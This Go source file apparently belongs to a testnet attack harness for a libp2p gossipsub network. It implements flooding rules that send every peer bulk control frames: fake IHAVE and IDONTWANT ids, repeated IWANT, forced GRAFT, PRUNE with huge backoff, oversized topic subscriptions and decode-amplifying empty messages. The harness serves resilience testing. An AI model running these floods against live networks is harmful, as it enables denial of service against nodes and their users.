package attack

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"time"

	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"google.golang.org/protobuf/proto"

	"github.com/grapevine-p2p/grapevine/testnet/scenario"
)

// flood sends control messages of one sort, as many as it is told to.
type flood struct {
	honest
	pace   pace
	make   func(f *flood, n *node, topic string) []byte // one frame
	number uint64
}

// floods are what a flood can consist of. The first is meant where nothing is said.
var floods = []string{"ihave", "iwant", "graft", "prune", "idontwant", "subscriptions", "empty", idle}

// idle makes frames as for ihave and sends none: what the attackers' own work does to those
// that share a machine with them.
const idle = "none"

func newFlood(p *params) rule {
	f := &flood{pace: pace{perSecond: p.number("per_second", "frames to each peer", scenario.FloodPerSecond, 1, 10_000)}}
	f.make = map[string]func(*flood, *node, string) []byte{
		"ihave": (*flood).ihave, "iwant": (*flood).iwant, "graft": (*flood).graft, "prune": (*flood).prune,
		"idontwant": (*flood).idontwant, "subscriptions": (*flood).subscriptions, "empty": (*flood).empty, idle: (*flood).nothing,
	}[p.word("message", "what a frame holds", floods...)]
	return f
}

func (f *flood) beat(n *node, now time.Time) {
	topic := n.txTopic()
	if f.make == nil || topic == "" {
		return
	}
	for range f.pace.due(now) {
		frame := f.make(f, n, topic)
		if len(frame) == 0 {
			continue
		}
		for _, l := range n.everybody() {
			if l.router == 0 { // whether or not it has said what it is in
				l.raw(frame)
			}
		}
	}
}

const (
	// idsAtOnce is how many ids a router looks at in one message.
	idsAtOnce = 5_000

	// topicsAtOnce is less than a filter with a limit refuses as a whole.
	topicsAtOnce = 60

	topicSize = 4 << 10

	// emptyBytes fill a frame with elements of two bytes, each of them an
	// object of more than a hundred where it is decoded.
	emptyBytes = scenario.FloodFrame
)

// madeUp are ids that nobody has.
func (f *flood) madeUp(count int) []string {
	ids := make([]string, count)
	for i := range ids {
		f.number++
		ids[i] = fmt.Sprintf("%020d", f.number)
	}
	return ids
}

func control(c *pb.ControlMessage) []byte {
	b, err := proto.Marshal(&pb.RPC{Control: c})
	if err != nil {
		return nil
	}
	return b
}

// ihave announces what does not exist.
func (f *flood) ihave(_ *node, topic string) []byte {
	return control(&pb.ControlMessage{Ihave: []*pb.ControlIHave{{TopicID: proto.String(topic), MessageIDs: f.madeUp(idsAtOnce)}}})
}

// iwant asks for all that peers may still have, again and again.
func (f *flood) iwant(n *node, _ string) []byte {
	recent := n.order[max(0, len(n.order)-idsAtOnce):]
	return control(&pb.ControlMessage{Iwant: []*pb.ControlIWant{{MessageIDs: recent}}})
}

// graft wants to be in the mesh, whatever the answer was.
func (f *flood) graft(_ *node, topic string) []byte {
	return control(&pb.ControlMessage{Graft: []*pb.ControlGraft{{TopicID: proto.String(topic)}}})
}

// prune leaves the mesh, for as long as a number can say, and comes back.
func (f *flood) prune(n *node, topic string) []byte {
	f.number++
	if f.number%2 == 0 {
		return f.graft(n, topic)
	}
	return control(&pb.ControlMessage{Prune: []*pb.ControlPrune{{TopicID: proto.String(topic), Backoff: proto.Uint64(1 << 60)}}})
}

// idontwant forbids what does not exist.
func (f *flood) idontwant(*node, string) []byte {
	return control(&pb.ControlMessage{Idontwant: []*pb.ControlIDontWant{{MessageIDs: f.madeUp(idsAtOnce)}}})
}

// subscriptions joins topics that nobody else is in.
func (f *flood) subscriptions(*node, string) []byte {
	rpc := new(pb.RPC)
	for range topicsAtOnce {
		f.number++
		topic := fmt.Sprintf("%0*d", topicSize, f.number)
		rpc.Subscriptions = append(rpc.Subscriptions, &pb.RPC_SubOpts{Topicid: proto.String(topic), Subscribe: proto.Bool(true)})
	}
	b, err := proto.Marshal(rpc)
	if err != nil {
		return nil
	}
	return b
}

// empty is an RPC of empty messages.
func (f *flood) empty(*node, string) []byte {
	element := binary.AppendUvarint(nil, 2<<3|2) // field publish, length-delimited
	return bytes.Repeat(append(element, 0), emptyBytes/2)
}

// nothing is no frame, at the cost of one.
func (f *flood) nothing(n *node, topic string) []byte {
	f.ihave(n, topic)
	return nil
}
